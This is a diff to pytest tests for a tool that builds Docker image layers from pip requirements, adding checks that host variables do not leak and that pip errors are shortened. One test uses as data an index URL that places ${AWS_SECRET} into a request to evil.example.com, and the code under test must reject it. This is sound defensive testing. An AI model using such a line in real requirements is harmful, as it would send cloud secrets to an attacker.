@@ -10,7 +10,7 @@ import pytest
 
 from dockml_magic import labels, layers
 from dockml_magic.engine import ImageState
-from dockml_magic.errors import ImageBuildError, KernelMissingError
+from dockml_magic.errors import ConfigError, ImageBuildError, KernelMissingError
 from dockml_magic.image_memory import ImageMemory
 from dockml_magic.layers import ensure_layer, pip_wheel
 from dockml_magic.requirements import Extras
@@ -78,11 +78,10 @@ def test_the_container_has_nothing_that_would_get_into_the_image(
     bundle.write_text("an authority")
     monkeypatch.setenv("PIP_CERT", str(bundle))
     monkeypatch.setenv("PIP_INDEX_URL", "https://ann:secret@pypi.example.com/simple")
-    monkeypatch.setenv("TOKEN", "a token")
-    monkeypatch.setenv("OTHER", "not asked for")
     engine = Installs(DONE)
     extras = Extras(lines=("--index-url https://${TOKEN}@x/", "tiny"), constraints=("six==1",))
-    ensure_layer(base_of(engine), "me/mine:1", extras, engine, print)
+    given = {"TOKEN": "a token", "OTHER": "not asked for"}
+    ensure_layer(base_of(engine), "me/mine:1", extras, engine, print, given)
     spec: ContainerSpec = engine.specs[0]
     assert spec.env == {}
     assert set(spec.labels) == {labels.VERSION, labels.USER}
@@ -98,6 +97,31 @@ def test_the_container_has_nothing_that_would_get_into_the_image(
     assert engine.given[RUNTIME / "ca-bundle.pem"] == b"an authority"
     assert engine.given[RUNTIME / "requirements.txt"].decode().splitlines() == list(extras.lines)
     assert engine.given[RUNTIME / "constraints.txt"] == b"six==1\n"
+
+
+def test_a_requirements_file_gets_no_variable_that_the_container_does_not(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setenv("AWS_SECRET", "of this machine")
+    engine = Installs(DONE)
+    extras = Extras(lines=("--index-url https://evil.example.com/${AWS_SECRET}/", "tiny"))
+    with pytest.raises(ConfigError, match="names the variable AWS_SECRET, which") as caught:
+        ensure_layer(base_of(engine), "me/mine:1", extras, engine, print, {"OTHER": "1"})
+    assert "-e AWS_SECRET" in caught.value.hint
+    assert engine.specs == []
+
+
+def test_what_pip_says_is_readable(told: list[str]) -> None:
+    long = f"ERROR: (from versions: {', '.join(map(str, range(500)))})"
+    output = f"DEPRECATION: Python 2.7 reached\n{long}\nWARNING: Running pip as the 'root'\nlast\n"
+    engine = Installs({**DONE, "code": 1}, output=output)
+    with pytest.raises(ImageBuildError) as caught:
+        ensure_layer(base_of(engine), "me/mine:1", TINY, engine, told.append)
+    assert told[2:] == ["last"]
+    assert told[1].startswith("ERROR: (from versions: 0, 1, 2, 3")
+    assert told[1].endswith(" 498, 499)")
+    assert len(told[1]) < 300
+    assert caught.value.log_tail == "\n".join(told[1:])
 
 
 @pytest.mark.parametrize(
